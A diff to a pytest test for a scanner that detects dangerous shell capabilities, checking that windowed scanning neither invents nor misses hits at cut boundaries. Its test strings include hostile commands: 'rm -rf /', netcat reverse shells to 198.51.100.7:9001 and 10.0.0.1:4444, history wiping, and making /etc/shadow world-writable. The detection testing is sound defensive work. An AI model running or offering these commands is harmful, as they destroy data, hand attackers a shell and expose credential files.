@@ -61,23 +61,44 @@ def _read(hits: Iterator[Hit]) -> Counter[tuple[str, int, int]]:
 
 
 @pytest.mark.parametrize(
-    "line",
+    ("glued", "apart", "capability"),
     [
         # a word glued to the one before it, where the second window starts
-        "a" * (MAX_LINE // 2) + "rm -rf / ; " + "b" * MAX_LINE,
-        "a" * (MAX_LINE // 2) + "nc -e /bin/sh 198.51.100.7 9001; " + "b" * MAX_LINE,
+        (
+            "a" * (MAX_LINE // 2) + "rm -rf / ; " + "b" * MAX_LINE,
+            "a" * (MAX_LINE // 2 - 1) + " rm -rf / ; " + "b" * MAX_LINE,
+            Capability.DELETE_FILE,
+        ),
+        (
+            "a" * (MAX_LINE // 2) + "nc -e /bin/sh 198.51.100.7 9001; " + "b" * MAX_LINE,
+            "a" * (MAX_LINE // 2 - 1) + " nc -e /bin/sh 198.51.100.7 9001; " + "b" * MAX_LINE,
+            Capability.NET_CONNECT,
+        ),
         # a word glued to the one after it, where the first window ends
-        "c" * (MAX_LINE - len("; history -c")) + "; history -cx" + " d" * MAX_LINE,
-        "c" * (MAX_LINE - len(" chmod 777 /etc/shadow"))
-        + " chmod 777 /etc/shadow0 "
-        + "d" * MAX_LINE,
+        (
+            "c" * (MAX_LINE - len("; history -c")) + "; history -cx" + " d" * MAX_LINE,
+            "c" * (MAX_LINE - len("; history -c")) + "; history -c x" + " d" * MAX_LINE,
+            Capability.HISTORY_WIPE,
+        ),
+        (
+            "c" * (MAX_LINE - len(" chmod 777 /etc/shadow"))
+            + " chmod 777 /etc/shadow0 "
+            + "d" * MAX_LINE,
+            "c" * (MAX_LINE - len(" chmod 777 /etc/shadow"))
+            + " chmod 777 /etc/shadow 0 "
+            + "d" * MAX_LINE,
+            Capability.SECRET_FILE,
+        ),
     ],
     ids=["start-rm", "start-nc", "end-history", "end-shadow"],
 )
-def test_a_cut_is_no_edge(line: str) -> None:
+def test_a_cut_is_no_edge(glued: str, apart: str, capability: Capability) -> None:
     """A hit that a window's start or end would make (`\\b`, `^`, a lookbehind or `$` read at
-    the cut as the text's edge) and the whole line does not hold is not reported."""
-    assert _read(scan(line)) == _read(capabilities._scan_whole(line, 0))
+    the cut as the text's edge) and the whole line does not hold is not reported; the same
+    words set apart by a space, at the same cut, are."""
+    assert _read(scan(glued)) == _read(capabilities._scan_whole(glued, 0))
+    assert capability not in {hit.capability for hit in scan(glued)}
+    assert capability in {hit.capability for hit in scan(apart)}
 
 
 @pytest.mark.parametrize("unit", [CONNECT_BACK + "; ", "nc -e /bin/sh 10.0.0.1 4444; "])
